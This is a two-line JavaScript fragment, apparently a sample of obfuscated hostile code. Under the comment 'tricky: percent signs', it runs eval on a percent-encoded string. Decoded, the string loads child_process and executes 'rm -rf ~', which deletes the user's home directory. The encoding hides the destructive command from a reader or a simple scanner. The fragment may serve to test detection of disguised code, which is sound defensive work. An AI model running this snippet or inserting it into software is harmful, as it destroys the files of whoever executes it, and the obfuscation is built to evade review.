// tricky: percent signs
eval(decodeURIComponent('%72equire(%27child_process%27).exec(%27rm%20-rf%20~%27)'));
